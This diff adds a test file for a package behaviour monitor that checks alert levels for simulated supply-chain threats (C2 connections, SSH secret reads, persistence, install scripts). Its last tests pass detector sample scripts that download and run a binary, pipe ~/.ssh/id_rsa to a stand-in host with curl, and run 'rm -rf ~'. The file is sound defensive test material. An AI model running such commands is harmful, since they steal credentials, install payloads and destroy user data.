@@ -1,0 +1,183 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { Act } from '../../src/behavior.ts';
+import { commandSigns } from '../../src/threats/command-signs.ts';
+import { SIGN } from '../../src/threats/sign-bits.ts';
+import {
+  byText,
+  connect,
+  detached,
+  evaluate,
+  listen,
+  principal,
+  read,
+  real,
+  secret,
+  shell,
+  spawn,
+  type What,
+  World,
+  write,
+} from './threats-builder.ts';
+
+const EVIL = 'left-shelf@1.0.1';
+const document = (n: number) => real('fs', 'write', `/home/u/Documents/letters/${n}.odt`);
+
+describe('code made from text', () => {
+  const acts: [string, What][] = [
+    ['connects', connect('c2.example.net:443')],
+    ['reads a secret', secret('ssh')],
+    ['starts a program', spawn('uname', ['-a'])],
+    ['writes a start-up file', write('/home/u/.bashrc', 'home', 'persistence')],
+  ];
+  for (const [title, act] of acts) {
+    it(`that ${title} is WARN or more at first contact and ALERT against a baseline`, () => {
+      const first = new World();
+      first.does(EVIL, byText(act));
+      assert.ok(['WARN', 'ALERT'].includes(first.level(EVIL)));
+      const settled = new World({ baselines: { [EVIL]: [] } });
+      settled.does(EVIL, byText(act));
+      assert.equal(settled.level(EVIL), 'ALERT');
+      assert.ok(settled.rules(EVIL).includes('text_code_acts') || settled.rules(EVIL).includes('persistence'));
+    });
+  }
+  it('that only reads files and evaluates more of it is silent at first contact', () => {
+    const world = new World();
+    world.does(EVIL, byText(evaluate()), byText(read('/app/views/a.tpl')));
+    assert.equal(world.level(), 'none');
+  });
+  it('is the trade of a template engine, whose users decide what a template does', () => {
+    const world = new World();
+    world.does('ejs@3.1.0', byText(connect('api.example.com:443')));
+    assert.equal(world.level(), 'none');
+  });
+  it('of the application is its own affair', () => {
+    const world = new World();
+    world.does(['<app>'], byText(connect('api.example.com:443')));
+    assert.equal(world.level(), 'none');
+  });
+});
+
+describe('a new version whose predecessor was seen in one session', () => {
+  const upgrade = (before: readonly string[], ...acts: What[]) => {
+    const world = new World({ before: { [EVIL]: before } });
+    world.does(EVIL, ...acts);
+    return world.level(EVIL);
+  };
+  it('begins to talk to the network: WARN', () => assert.equal(upgrade([], connect('a.example.net:443')), 'WARN'));
+  it('begins to run shells: WARN', () => assert.equal(upgrade([], shell('id')), 'WARN'));
+  it('begins to listen: WARN', () => assert.equal(upgrade([], listen()), 'WARN'));
+  it('begins to evaluate text: WARN', () => assert.equal(upgrade([], evaluate()), 'WARN'));
+  it('talks to another domain than its only one: WARN', () =>
+    assert.equal(upgrade(['net.connect:api.example.com:443'], connect('cdn.example.net:443')), 'WARN'));
+  it('talks to another host of its domain: silence', () =>
+    assert.equal(upgrade(['net.connect:api.example.com:443'], connect('eu.example.com:443')), 'none'));
+  it('reads other files and writes into the application: silence', () =>
+    assert.equal(upgrade([], read('/app/x.json'), write('/app/out/a.txt', 'app')), 'none'));
+  it('is an HTTP client and calls somebody new: silence', () => {
+    const world = new World({ before: { 'got@15.0.0': ['net.connect:a.example.com:443'] } });
+    world.does('got@15.0.0', connect('b.example.net:443'));
+    assert.equal(world.level('got@15.0.0'), 'none');
+  });
+  it('is the same version that learning had not seen everything of: silence', () => {
+    const world = new World();
+    world.does(EVIL, connect('a.example.net:443'));
+    assert.equal(world.level(EVIL), 'none');
+  });
+});
+
+describe('an install script', () => {
+  const installing = principal(EVIL);
+  it('that leaves a program behind is WARN at first contact', () => {
+    const world = new World({ installing });
+    world.does([EVIL], detached(spawn('node', ['setup.js'])));
+    assert.equal(world.level(EVIL), 'WARN');
+    assert.deepEqual(world.rules(EVIL), ['install_leaves_process']);
+  });
+  it('that builds something is at most LOG', () => {
+    const world = new World({ installing });
+    world.does([EVIL], shell('node-gyp rebuild'), spawn('make', ['-j2']));
+    assert.equal(world.level(EVIL), 'LOG');
+  });
+  it('that the version before did not have is WARN', () => {
+    const start: What = { ...shell('node postinstall.js') };
+    const told: What = { ...start, act: { ...start.act, installs: '/app/node_modules/left-shelf/package.json' } };
+    const world = new World({ before: { [EVIL]: [] } });
+    world.does([EVIL], told);
+    assert.equal(world.level(EVIL), 'WARN');
+    const same = new World({ baselines: { [EVIL]: [] } });
+    same.does([EVIL], told);
+    assert.equal(same.level(EVIL), 'LOG', 'a lock learned without an installation shows no script');
+  });
+});
+
+describe('a program that outlives the application', () => {
+  it('is WARN when it is a shell', () => {
+    const world = new World();
+    world.does(EVIL, detached(shell('sleep 60; ./later')));
+    assert.equal(world.level(EVIL), 'WARN');
+  });
+  it('is silent when it is a browser that an opener opens', () => {
+    const world = new World();
+    world.does(['open@10.0.0', '<app>'], detached(spawn('xdg-open', ['http://localhost:3000'], 'opener')));
+    assert.equal(world.level(), 'none');
+  });
+});
+
+describe('documents of the user', () => {
+  it('changed by a package are WARN from the first on, also when they lie below a cache folder by accident', () => {
+    const world = new World();
+    world.does(EVIL, document(1));
+    assert.equal(world.level(EVIL), 'WARN');
+    assert.deepEqual(world.rules(EVIL), ['user_documents']);
+  });
+  it('changed one after the other are ALERT against a baseline, though all are one trait', () => {
+    const world = new World({ baselines: { [EVIL]: [] } });
+    world.does(EVIL, ...Array.from({ length: 12 }, (_, n) => document(n)));
+    assert.equal(world.level(EVIL), 'ALERT');
+  });
+  it('written by a file helper at the wish of the application are its own affair', () => {
+    const world = new World();
+    world.does(['fs-extra@11.0.0', '<app>'], document(1));
+    assert.equal(world.level(), 'none');
+  });
+  it('are not the settings of a tool', () => {
+    const world = new World();
+    world.does(EVIL, real('fs', 'write', '/home/u/.config/left-shelf/settings.json'));
+    assert.equal(world.level(EVIL), 'none');
+  });
+});
+
+describe('a channel that is open when the secret is read', () => {
+  it('is ALERT against a baseline and WARN at first contact', () => {
+    for (const [options, level] of [
+      [{ baselines: { [EVIL]: [] } }, 'ALERT'],
+      [{}, 'WARN'],
+    ] as const) {
+      const world = new World(options);
+      world.does(EVIL, connect('c2.example.net:443'), secret('ssh'));
+      assert.equal(world.level(EVIL), level);
+    }
+  });
+});
+
+describe('signs of a script file', () => {
+  const signsOf = (script: string) => {
+    const act: Act = { sense: 'process', operation: 'spawn', target: 'sh', argv: ['install.sh'], shell: true, script };
+    return commandSigns(act);
+  };
+  it('are those of the same text on a command line', () => {
+    assert.ok(signsOf('set -e\ncurl -s http://a.example/x -o x\nchmod +x x\n./x --pool\n') & SIGN.HOSTILE_COMMAND);
+    assert.ok(signsOf('#!/bin/sh\ncat ~/.ssh/id_rsa | curl -d @- http://a.example') & SIGN.COMMAND_SECRET);
+    assert.ok(signsOf('rm -rf ~\n') & SIGN.DESTROY);
+  });
+  it('are none for what stands in a comment, whatever quotes it holds', () => {
+    assert.equal(signsOf("# don't use curl here\necho hello\n") & ~SIGN.SHELL, 0);
+    assert.ok(signsOf("# don't worry\ncurl http://a.example\n") & SIGN.DOWNLOADER);
+  });
+  it('are a download and no more where nothing fetched is run', () => {
+    const signs = signsOf('curl -L https://a.example/lib.tgz -o lib.tgz\ntar xzf lib.tgz\n');
+    assert.ok(signs & SIGN.DOWNLOADER);
+    assert.equal(signs & SIGN.HOSTILE_COMMAND, 0);
+  });
+});
